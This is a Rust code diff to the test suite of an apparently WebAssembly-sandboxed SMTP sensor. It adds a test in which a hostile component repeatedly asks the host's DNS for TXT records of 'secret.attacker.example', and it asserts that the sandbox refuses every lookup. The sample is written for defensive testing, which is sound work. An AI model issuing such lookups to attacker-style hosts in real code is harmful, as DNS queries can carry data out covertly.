@@ -34,8 +34,9 @@ fn component(body: &str) -> Vec<u8> {
 /// (imports, data) and whose `check` runs `body`.
 fn component_of(world: &str, fields: &str, body: &str) -> Vec<u8> {
     let mut resolve = Resolve::new();
-    let wit = concat!(env!("CARGO_MANIFEST_DIR"), "/../wit/smtp-sensor.wit");
-    let package = resolve.push_file(wit).expect("parse the WIT");
+    // The contract with the WASI it uses (`wit/deps/`: `dns`'s pollable).
+    let wit = concat!(env!("CARGO_MANIFEST_DIR"), "/../wit");
+    let (package, _) = resolve.push_dir(wit).expect("parse the WIT");
     let world = resolve
         .select_world(&[package], Some(world))
         .expect("the world");
@@ -330,6 +331,45 @@ async fn a_component_cannot_hoard_keys_in_the_host() {
     let why = component_failure(&result);
     assert!(why.contains("trapped"), "{why}");
     assert!(why.contains("resource table has no free keys"), "{why}");
+}
+
+/// A component that asks the host's DNS (the contract's `dns`) for a name its target does
+/// not need, a hundred times, is refused every time before any packet (it spins if the host
+/// ever started the lookup), and the result's message says what the sandbox refused.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_component_cannot_look_up_other_names_through_the_hosts_dns() {
+    // resolve(name, record-type) returns result<lookup, lookup-error> through a pointer (at
+    // 256): its first byte is 0 for a lookup, 1 for an error.
+    let fields = &contract(
+        r#"(import "smtp-sensor:probe/dns@CONTRACT" "resolve"
+        (func $resolve (param i32 i32 i32 i32)))
+        (data (i32.const 32) "secret.attacker.example")"#,
+    );
+    let body = r#"(local $i i32)
+        (loop $again
+          ;; record-type txt is case 3
+          (call $resolve (i32.const 32) (i32.const 23) (i32.const 3) (i32.const 256))
+          (if (i32.eqz (i32.load8_u (i32.const 256))) (then (loop (br 0))))
+          (local.set $i (i32.add (local.get $i) (i32.const 1)))
+          (br_if $again (i32.lt_u (local.get $i) (i32.const 100))))
+        unreachable"#;
+    let runner =
+        Runner::from_bytes(&component_of("smtp-sensor-core", fields, body)).expect("loads");
+    let started = std::time::Instant::now();
+    let result = runner.check(&settings(5)).await;
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(3),
+        "refused at once"
+    );
+    let why = component_failure(&result);
+    assert!(why.contains("trapped"), "{why}");
+    assert!(
+        result
+            .message
+            .contains("the sandbox refused a DNS lookup of TXT secret.attacker.example"),
+        "{}",
+        result.message
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
